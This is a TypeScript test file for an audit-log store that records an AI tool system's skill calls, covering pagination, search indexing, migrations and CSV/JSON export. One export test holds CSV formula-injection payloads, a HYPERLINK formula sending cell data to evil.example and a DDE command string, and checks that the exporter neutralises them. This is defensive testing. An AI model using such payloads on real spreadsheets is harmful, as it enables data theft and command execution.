import path from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it, vi } from 'vitest';
import {
  AuditRepo,
  INDEX_BATCH,
  InvalidCursorError,
  MIGRATIONS,
  MAX_ERROR_CHARS,
  MAX_RESULT_SUMMARY_CHARS,
  SEARCH_FIRST_WINDOW,
  openStore,
  runMigrations,
  type AuditEntry,
  type AuditFilter,
  type AuditRow,
  type AuditSource,
  type AuditStatus,
  type Store,
} from '../../../src/core/store/index.js';
import type { CallErrorCode } from '../../../src/shared/call-errors.js';
import { onCleanup, tempDir } from '../../helpers/temp.js';

function store(): Store {
  const s = openStore(path.join(tempDir(), 'ias.db'));
  onCleanup(() => s.close());
  return s;
}

const entry = (fields: Partial<AuditEntry> = {}): AuditEntry => ({
  skill: 'read_file',
  source: 'chat',
  risk: 'low',
  params: { path: '/tmp/a.txt' },
  ...fields,
});

const SKILLS = ['read_file', 'send_mail', 'run_shell'];
const SOURCES: AuditSource[] = ['chat', 'job', 'schedule', 'cli'];
const ENDINGS: Exclude<AuditStatus, 'running'>[] = ['done', 'failed', 'refused', 'interrupted'];

/** `count` finished calls; timestamps repeat in groups of five so that pages split ties. */
function fill(audit: AuditRepo, count: number, text: (i: number) => string = () => 'ok', db?: Store['db']): void {
  const work = () => {
    for (let i = 0; i < count; i++) {
      const id = audit.start(
        entry({
          skill: SKILLS[i % 3]!,
          source: SOURCES[i % 4]!,
          startedAt: 10_000 + Math.floor(i / 5) * 10,
          params: { n: i },
        }),
      );
      audit.finish(id, { status: ENDINGS[i % 4]!, durationMs: i, resultSummary: text(i) });
    }
  };
  if (db) db.transaction(work)();
  else work();
}

/** Every page of a query, checking that pages follow one another. */
function allPages(audit: AuditRepo, filter: AuditFilter): AuditRow[] {
  const rows: AuditRow[] = [];
  let cursor: string | undefined;
  for (let pages = 0; pages < 10_000; pages++) {
    const page = audit.query({ ...filter, cursor });
    rows.push(...page.rows);
    if (!page.nextCursor) return rows;
    expect(page.rows).toHaveLength(filter.limit ?? 50);
    cursor = page.nextCursor;
  }
  throw new Error('pagination does not end');
}

const newestFirst = (a: AuditRow, b: AuditRow) => b.startedAt - a.startedAt || b.id - a.id;

function matchesText(row: AuditRow, text: string): boolean {
  const fold = (s: string) => s.replace(/[A-Z]/g, (c) => c.toLowerCase());
  const haystacks = [row.skill, JSON.stringify(row.params), row.resultSummary ?? '', row.error ?? ''].map(fold);
  return text
    .split(/\s+/)
    .filter(Boolean)
    .every((term) => haystacks.some((h) => h.includes(fold(term))));
}

function expected(all: AuditRow[], filter: AuditFilter): number[] {
  return all
    .filter(
      (r) =>
        (filter.skill === undefined || r.skill === filter.skill) &&
        (filter.status === undefined || r.status === filter.status) &&
        (filter.source === undefined || r.source === filter.source) &&
        (filter.from === undefined || r.startedAt >= filter.from) &&
        (filter.to === undefined || r.startedAt < filter.to) &&
        (filter.text === undefined || matchesText(r, filter.text)),
    )
    .sort(newestFirst)
    .map((r) => r.id);
}

describe('AuditRepo: writing', () => {
  it('records a call when it starts and completes it when it ends', () => {
    const { audit } = store();
    const id = audit.start(
      entry({ skill: 'send_mail', skillHash: 'h1', source: 'job', requestedBy: 'job-7', risk: 'high', startedAt: 100 }),
    );
    expect(audit.get(id)).toEqual({
      id,
      startedAt: 100,
      finishedAt: null,
      skill: 'send_mail',
      skillHash: 'h1',
      source: 'job',
      requestedBy: 'job-7',
      params: { path: '/tmp/a.txt' },
      risk: 'high',
      approvalId: null,
      approvalOutcome: 'none',
      status: 'running',
      durationMs: null,
      exitCode: null,
      resultSummary: null,
      error: null,
      errorCode: null,
    });
    const done = audit.finish(id, {
      status: 'failed',
      durationMs: 42.4,
      exitCode: 2,
      error: 'boom',
      approvalOutcome: 'approved',
      approvalId: 'a-1',
      finishedAt: 142,
    });
    expect(done).toBe(true);
    expect(audit.get(id)).toMatchObject({
      status: 'failed',
      finishedAt: 142,
      durationMs: 42,
      exitCode: 2,
      error: 'boom',
      approvalOutcome: 'approved',
      approvalId: 'a-1',
    });
    expect(audit.finish(id, { status: 'done', durationMs: 1 })).toBe(false);
    expect(audit.finish(999, { status: 'done', durationMs: 1 })).toBe(false);
    expect(audit.get(999)).toBeUndefined();
  });

  it('keeps the approval fields given at start unless finish changes them', () => {
    const { audit } = store();
    const id = audit.start(entry({ approvalId: 'a-9', approvalOutcome: 'approved' }));
    audit.finish(id, { status: 'done', durationMs: 5 });
    expect(audit.get(id)).toMatchObject({ approvalId: 'a-9', approvalOutcome: 'approved', status: 'done' });
    const refused = audit.start(entry({ approvalId: 'a-10' }));
    audit.finish(refused, { status: 'refused', durationMs: 0, approvalOutcome: 'expired', approvalId: null });
    expect(audit.get(refused)).toMatchObject({ approvalId: null, approvalOutcome: 'expired' });
  });

  it('caps long results, errors and params', () => {
    const { audit } = store();
    const id = audit.start(entry({ params: { body: 'p'.repeat(20_000) } }));
    audit.finish(id, { status: 'done', durationMs: 1, resultSummary: 'r'.repeat(10_000), error: 'e'.repeat(10_000) });
    const row = audit.get(id)!;
    expect(row.resultSummary).toHaveLength(MAX_RESULT_SUMMARY_CHARS);
    expect(row.resultSummary!.endsWith('…')).toBe(true);
    expect(row.error).toHaveLength(MAX_ERROR_CHARS);
    expect(row.params).toMatchObject({ $truncated: true });
    expect(JSON.stringify(row.params).length).toBeLessThan(9000);
    const surrogate = audit.start(entry());
    audit.finish(surrogate, { status: 'done', durationMs: 1, resultSummary: '😀'.repeat(2000) });
    expect(audit.get(surrogate)!.resultSummary).not.toMatch(/[\uD800-\uDBFF]…$/);
  });

  it('marks calls left running by an earlier run as interrupted', () => {
    const { audit } = store();
    const a = audit.start(entry({ startedAt: 1000 }));
    const b = audit.start(entry({ startedAt: 2000 }));
    const c = audit.start(entry({ startedAt: 3000 }));
    audit.finish(c, { status: 'done', durationMs: 3, finishedAt: 3003 });
    expect(audit.markInterrupted(5000)).toBe(2);
    expect(audit.get(a)).toMatchObject({ status: 'interrupted', finishedAt: 5000, durationMs: 4000 });
    expect(audit.get(b)).toMatchObject({ status: 'interrupted', durationMs: 3000 });
    expect(audit.get(c)).toMatchObject({ status: 'done', finishedAt: 3003 });
    expect(audit.finish(a, { status: 'done', durationMs: 1 })).toBe(false);
    expect(audit.markInterrupted(6000)).toBe(0);
  });
});

describe('AuditRepo: queries', () => {
  it('pages newest first without repeating or skipping rows, ties included, under every filter', () => {
    const s = store();
    fill(s.audit, 237, (i) => (i % 7 === 0 ? `Found Needle_${i}` : 'ok'), s.db);
    const all = [...s.audit.rows()];
    expect(all).toHaveLength(237);
    const filters: AuditFilter[] = [
      {},
      { skill: 'send_mail' },
      { status: 'failed' },
      { source: 'schedule' },
      { from: 10_100, to: 10_300 },
      { skill: 'run_shell', from: 10_050 },
      { status: 'done', to: 10_200 },
      { source: 'cli', from: 10_000, to: 10_400 },
      { skill: 'read_file', status: 'done', source: 'chat' },
      { text: 'needle' },
      { text: 'NEEDLE_1' },
      { text: 'needle', skill: 'send_mail' },
    ];
    for (const filter of filters) {
      const want = expected(all, filter);
      for (const limit of [1, 7, 50]) {
        const got = allPages(s.audit, { ...filter, limit }).map((r) => r.id);
        expect(got, JSON.stringify(filter)).toEqual(want);
      }
    }
  });

  it('serves 50 rows by default and at most 500', () => {
    const s = store();
    fill(s.audit, 600, undefined, s.db);
    expect(s.audit.query().rows).toHaveLength(50);
    expect(s.audit.query({ limit: 10_000 }).rows).toHaveLength(500);
    expect(s.audit.query({ limit: 0 }).rows).toHaveLength(1);
    const last = s.audit.query({ limit: 600 });
    expect(last.rows).toHaveLength(500);
    expect(last.nextCursor).toBeDefined();
    expect(s.audit.query({ limit: 500, cursor: last.nextCursor }).nextCursor).toBeUndefined();
  });

  it('rejects a cursor it did not make', () => {
    const { audit } = store();
    expect(() => audit.query({ cursor: 'garbage' })).toThrow(InvalidCursorError);
    expect(() => audit.query({ cursor: Buffer.from('[1,"x"]').toString('base64url') })).toThrow(InvalidCursorError);
  });
});

describe('AuditRepo: text search', () => {
  it('finds words in skill, params, result and error, ignoring ASCII case, all words required', () => {
    const { audit } = store();
    const mail = audit.start(entry({ skill: 'send_mail', params: { to: 'Alice@Example.com', subject: '周报' } }));
    audit.finish(mail, { status: 'done', durationMs: 1, resultSummary: 'Message queued' });
    const shell = audit.start(entry({ skill: 'run_shell', params: { command: 'ls -la' } }));
    audit.finish(shell, { status: 'failed', durationMs: 1, error: 'Permission denied: /etc/shadow' });
    const ids = (text: string) => audit.query({ text }).rows.map((r) => r.id);
    expect(ids('send_mail')).toEqual([mail]);
    expect(ids('SEND')).toEqual([mail]);
    expect(ids('alice@example')).toEqual([mail]);
    expect(ids('周报')).toEqual([mail]);
    expect(ids('queued')).toEqual([mail]);
    expect(ids('permission SHADOW')).toEqual([shell]);
    expect(ids('permission alice')).toEqual([]);
    expect(ids('_')).toEqual([shell, mail]);
    expect(ids('%')).toEqual([]);
    expect(ids('l_s')).toEqual([]);
    expect(ids('   ')).toEqual([shell, mail]);
  });

  it('uses the search index for rare words past the scanned window, in step with updates', () => {
    const s = store();
    const total = SEARCH_FIRST_WINDOW + 1500;
    // The rare rows are the oldest, so the newest window holds none of them.
    const text = (i: number) =>
      i < 40 ? `archived zebra-${i}` : i % 300 === 150 ? 'sparse walrus' : `routine result ${i % 13}`;
    fill(s.audit, total, text, s.db);
    const all = [...s.audit.rows()];
    const prepare = vi.spyOn(s.db, 'prepare');
    const searches = [
      'zebra',
      'ZEBRA-1',
      'archived zebra',
      'zebra-3 archived',
      'walrus',
      'routine 7',
      'routine result 12',
    ];
    for (const text of searches) {
      expect(
        allPages(s.audit, { text, limit: 15 }).map((r) => r.id),
        text,
      ).toEqual(expected(all, { text }));
    }
    expect(prepare.mock.calls.some(([sql]) => sql.includes('audit_fts'))).toBe(true);
    // An old row whose result changes is found by its new text only.
    const oldest = all[all.length - 1]!;
    const late = s.audit.start(entry({ startedAt: 5 }));
    expect(s.audit.finish(late, { status: 'done', durationMs: 1, resultSummary: 'quokka sighting' })).toBe(true);
    expect(s.audit.query({ text: 'quokka' }).rows.map((r) => r.id)).toEqual([late]);
    expect(s.audit.query({ text: 'zebra-0' }).rows.map((r) => r.id)).toEqual([oldest.id]);
    // A call still running (indexed only when it ends) is found however old it is.
    const running = s.audit.start(entry({ startedAt: 4, params: { note: 'platypus' } }));
    expect(s.audit.query({ text: 'platypus' }).rows.map((r) => r.id)).toEqual([running]);
    expect(s.audit.markInterrupted()).toBe(1);
    expect(s.audit.query({ text: 'platypus' }).rows.map((r) => [r.id, r.status])).toEqual([[running, 'interrupted']]);
  });

  it('never returns rows that only hold the pieces of a word', () => {
    const s = store();
    fill(s.audit, SEARCH_FIRST_WINDOW + 10, (i) => (i === 0 ? 'xabcx ycaby' : i === 1 ? 'abcab' : 'none'), s.db);
    const rows = s.audit.query({ text: 'abcab' }).rows;
    expect(rows.map((r) => r.resultSummary)).toEqual(['abcab']);
  });
});

/** The rows whose params hold `tag`, found through the search index alone. */
function indexedTagged(db: Store['db'], tag: string): number[] {
  return db.prepare<[string], number>('SELECT rowid FROM audit_fts WHERE params LIKE ?').pluck().all(`%${tag}%`);
}

const indexedUpto = (db: Store['db']) =>
  db.prepare('SELECT indexed_upto FROM audit_fts_state WHERE id = 1').pluck().get() as number;

/** Each row is in the index exactly when it is finished and at most indexed_upto, and the index is sound. */
function expectIndexInStep(db: Store['db']): void {
  const upto = indexedUpto(db);
  const rows = db.prepare('SELECT id, status, params FROM audit_log').all() as {
    id: number;
    status: string;
    params: string;
  }[];
  for (const row of rows) {
    const tag = (JSON.parse(row.params) as { tag: string }).tag;
    const expected = row.id <= upto && row.status !== 'running' ? [row.id] : [];
    expect(indexedTagged(db, tag), `row ${row.id} (${row.status}, indexed up to ${upto})`).toEqual(expected);
  }
  db.exec(`INSERT INTO audit_fts (audit_fts, rank) VALUES ('integrity-check', 0)`);
}

describe('AuditRepo: the search index in batches', () => {
  const tagged = (n: number, fields: Partial<AuditEntry> = {}) => entry({ params: { tag: `tag${n}x` }, ...fields });

  it('indexes finished calls a batch at a time; searches find the newest before they are', () => {
    const s = store();
    const { audit, db } = s;
    const upto = indexedUpto(db);
    // A call that runs while a batch is indexed is indexed when it ends.
    const straggler = audit.start(tagged(0, { skill: 'slow_job' }));
    const ids: number[] = [];
    for (let n = 1; ids.length === 0 || ids.at(-1)! - upto < INDEX_BATCH - 1; n++) {
      const id = audit.start(tagged(n));
      audit.finish(id, { status: 'done', durationMs: 1, resultSummary: `walrus ${n}` });
      ids.push(id);
    }
    expect(indexedUpto(db)).toBe(upto);
    expect(indexedTagged(db, 'tag1x')).toEqual([]);
    expect(audit.query({ text: 'tag1x' }).rows.map((r) => r.id)).toEqual([ids[0]]);
    expect(audit.query({ text: 'walrus', limit: 500 }).rows).toHaveLength(ids.length);
    expectIndexInStep(db);

    const last = audit.start(tagged(999));
    audit.finish(last, { status: 'failed', durationMs: 1, error: 'walrus strike' });
    expect(indexedUpto(db)).toBe(last);
    expect(indexedTagged(db, 'tag1x')).toEqual([ids[0]]);
    expect(indexedTagged(db, 'tag0x')).toEqual([]);
    audit.finish(straggler, { status: 'done', durationMs: 5 });
    expect(indexedTagged(db, 'tag0x')).toEqual([straggler]);
    expectIndexInStep(db);

    // Rows go, indexed or not, and an edited row is found by its new text, without harm to the index.
    const newer = audit.start(tagged(1000));
    audit.finish(newer, { status: 'done', durationMs: 1 });
    db.prepare('DELETE FROM audit_log WHERE id IN (?, ?)').run(ids[1], newer);
    db.prepare(`UPDATE audit_log SET result_summary = 'quokka' WHERE id = ?`).run(ids[2]);
    expect(audit.query({ text: 'quokka' }).rows.map((r) => r.id)).toEqual([ids[2]]);
    expectIndexInStep(db);
    audit.indexPending();
    expectIndexInStep(db);
  });

  it('reindexes rows loaded without the triggers', () => {
    const s = store();
    const { audit, db } = s;
    const running = audit.start(tagged(0));
    const triggers = db
      .prepare<[], { name: string; sql: string }>(`SELECT name, sql FROM sqlite_master WHERE type = 'trigger'`)
      .all();
    for (const t of triggers) db.exec(`DROP TRIGGER ${t.name}`);
    const insert = db.prepare(
      `INSERT INTO audit_log (started_at, skill, source, params, risk, status) VALUES (1, 'x', 'cli', ?, 'low', 'done')`,
    );
    for (let n = 1; n <= 3 * INDEX_BATCH; n++) insert.run(JSON.stringify({ tag: `tag${n}x` }));
    for (const t of triggers) db.exec(t.sql);
    audit.reindex();
    expectIndexInStep(db);
    audit.finish(running, { status: 'done', durationMs: 1 });
    expectIndexInStep(db);
  });

  it('takes over an index kept row by row (schema 2): everything finished stays findable', () => {
    const file = path.join(tempDir(), 'old.db');
    const db = new Database(file);
    onCleanup(() => db.open && db.close());
    runMigrations(db, MIGRATIONS.slice(0, 2));
    const insert = db.prepare(
      `INSERT INTO audit_log (started_at, skill, source, params, risk, status) VALUES (?, 'x', 'cli', ?, 'low', 'running')`,
    );
    const finish = db.prepare(`UPDATE audit_log SET status = 'done', result_summary = ? WHERE id = ?`);
    for (let n = 1; n <= 10; n++) {
      const id = Number(insert.run(n, JSON.stringify({ tag: `tag${n}x` })).lastInsertRowid);
      if (n !== 4) finish.run(`old walrus ${n}`, id);
    }
    expect(runMigrations(db)).toEqual([3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]);
    expect(indexedUpto(db)).toBe(10);
    expectIndexInStep(db);
    const audit = new AuditRepo(db);
    expect(audit.query({ text: 'walrus' }).rows).toHaveLength(9);
    audit.finish(4, { status: 'done', durationMs: 1, resultSummary: 'late walrus' });
    expect(audit.query({ text: 'walrus' }).rows).toHaveLength(10);
    expectIndexInStep(db);
  });
});

describe('AuditRepo: a call written whole when it ends', () => {
  it('is one complete row, found by a search before and after its batch is indexed', () => {
    const s = store();
    const { audit, db } = s;
    const startedAt = Date.now() - 50;
    const id = audit.record(entry({ skill: 'get_current_datetime', params: { tag: 'tag1x' }, startedAt }), {
      status: 'done',
      durationMs: 3,
      resultSummary: '{"time":"13:52:07"}',
      approvalOutcome: 'none',
    });
    expect(audit.get(id)).toMatchObject({
      skill: 'get_current_datetime',
      params: { tag: 'tag1x' },
      status: 'done',
      startedAt,
      durationMs: 3,
      resultSummary: '{"time":"13:52:07"}',
      approvalOutcome: 'none',
      approvalId: null,
    });
    expect(audit.get(id)!.finishedAt).toBeGreaterThanOrEqual(startedAt);
    expect(audit.query({ text: '13:52:07' }).rows.map((r) => r.id)).toEqual([id]);
    expectIndexInStep(db);
    audit.indexPending();
    expect(indexedTagged(db, 'tag1x')).toEqual([id]);
    expect(audit.query({ text: '13:52:07' }).rows.map((r) => r.id)).toEqual([id]);
    // An id used again below indexed_upto (the newest rows deleted) is indexed at once.
    db.prepare('DELETE FROM audit_log WHERE id = ?').run(id);
    const again = audit.record(entry({ params: { tag: 'tag2x' } }), { status: 'failed', durationMs: 1, error: 'x' });
    expect(again).toBe(id);
    expect(indexedTagged(db, 'tag2x')).toEqual([again]);
    expectIndexInStep(db);
  });
});

describe('AuditRepo: export', () => {
  it('exports CSV with a header and RFC 4180 quoting', () => {
    const { audit } = store();
    const id = audit.start(
      entry({ skill: 'write_note', params: { text: 'a, "b"' }, startedAt: Date.UTC(2025, 0, 2, 3, 4, 5) }),
    );
    audit.finish(id, {
      status: 'done',
      durationMs: 7,
      exitCode: 0,
      resultSummary: 'line one\nline "two", with comma',
      finishedAt: Date.UTC(2025, 0, 2, 3, 4, 6),
    });
    const csv = audit.exportCsv();
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'id,started_at,finished_at,skill,skill_hash,source,requested_by,params,risk,approval_id,approval_outcome,status,duration_ms,exit_code,result_summary,error,error_code,error_params',
    );
    expect(csv).toBe(
      `${lines[0]}\r\n` +
        `${id},2025-01-02T03:04:05.000Z,2025-01-02T03:04:06.000Z,write_note,,chat,,"{""text"":""a, \\""b\\""""}",low,,none,done,7,0,"line one\nline ""two"", with comma",,,\r\n`,
    );
    expect(parseCsv(csv)[1]![14]).toBe('line one\nline "two", with comma');
    expect(parseCsv(csv)[1]![7]).toBe('{"text":"a, \\"b\\""}');
  });

  it('exports why a call did not run: its code, and for a cancellation its cause', () => {
    const { audit } = store();
    const refuse = (errorCode: CallErrorCode) => {
      const id = audit.start(entry({ skill: 'send_mail', risk: 'high' }));
      audit.finish(id, { status: 'refused', durationMs: 1, error: 'send_mail did not run', errorCode });
    };
    refuse({ code: 'call-cancelled', params: { cause: 'shutting-down' } });
    refuse({ code: 'call-cancelled', params: { cause: 'stopped' } });
    refuse({ code: 'call-refused' });
    const [header, ...rows] = parseCsv(audit.exportCsv());
    const at = (name: string) => header!.indexOf(name);
    expect(rows.map((row) => [row[at('error_code')], row[at('error_params')]])).toEqual([
      ['call-refused', ''],
      ['call-cancelled', '{"cause":"stopped"}'],
      ['call-cancelled', '{"cause":"shutting-down"}'],
    ]);
  });

  it('keeps model-written text from becoming a spreadsheet formula in CSV, and exact in JSON', () => {
    const { audit } = store();
    const id = audit.start(entry({ skill: 'search_web', params: { q: '=1+1' }, requestedBy: '@conv' }));
    audit.finish(id, {
      status: 'failed',
      durationMs: 1,
      exitCode: -1,
      resultSummary: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      error: "+cmd|' /C calc'!A0",
    });
    const [, row] = parseCsv(audit.exportCsv());
    expect(row![6]).toBe("'@conv");
    expect(row![7]).toBe('{"q":"=1+1"}');
    expect(row![13]).toBe('-1');
    expect(row![14]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(row![15]).toBe("'+cmd|' /C calc'!A0");
    for (const field of row!) expect(field).not.toMatch(/^[=+@\t\r]/);
    const [exact] = JSON.parse(audit.exportJson()) as AuditRow[];
    expect(exact!.resultSummary).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(exact!.requestedBy).toBe('@conv');
  });

  it('exports every matching row, ignoring the page size, as CSV and JSON', () => {
    const s = store();
    fill(s.audit, 130, (i) => `result ${i}`, s.db);
    const csv = parseCsv(s.audit.exportCsv({ skill: 'send_mail', limit: 5 }));
    const all = [...s.audit.rows()];
    const want = expected(all, { skill: 'send_mail' });
    expect(csv.slice(1).map((row) => Number(row[0]))).toEqual(want);
    const json = JSON.parse(s.audit.exportJson({ skill: 'send_mail', limit: 5 })) as AuditRow[];
    expect(json.map((row) => row.id)).toEqual(want);
    expect(json[0]).toEqual(all.find((row) => row.id === want[0]));
    expect(JSON.parse(s.audit.exportJson({ skill: 'nothing' }))).toEqual([]);
    expect(s.audit.exportCsv({ skill: 'nothing' }).split('\r\n')).toHaveLength(2);
  });
});

/** A strict RFC 4180 reader, to check the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe('changes told', () => {
  it('tells each row added or ended once its write is done (after the transaction), and nothing for a finish that changed nothing', async () => {
    const s = store();
    const changes: unknown[] = [];
    s.audit.on('changed', (change) => changes.push(change));
    let running = 0;
    s.db.transaction(() => {
      running = s.audit.start(entry());
      expect(changes).toEqual([]);
    })();
    const whole = s.audit.record(entry(), { status: 'done', durationMs: 1 });
    expect(s.audit.finish(running, { status: 'done', durationMs: 2 })).toBe(true);
    expect(s.audit.finish(running, { status: 'failed', durationMs: 3 })).toBe(false);
    await Promise.resolve();
    expect(changes).toEqual([
      { id: running, added: true, running: true },
      { id: whole, added: true, running: false },
      { id: running, added: false, running: false },
    ]);
    s.audit.start(entry());
    expect(s.audit.markInterrupted()).toBe(1);
    await Promise.resolve();
    expect(changes.at(-1)).toEqual({ added: false, running: false });
  });
});
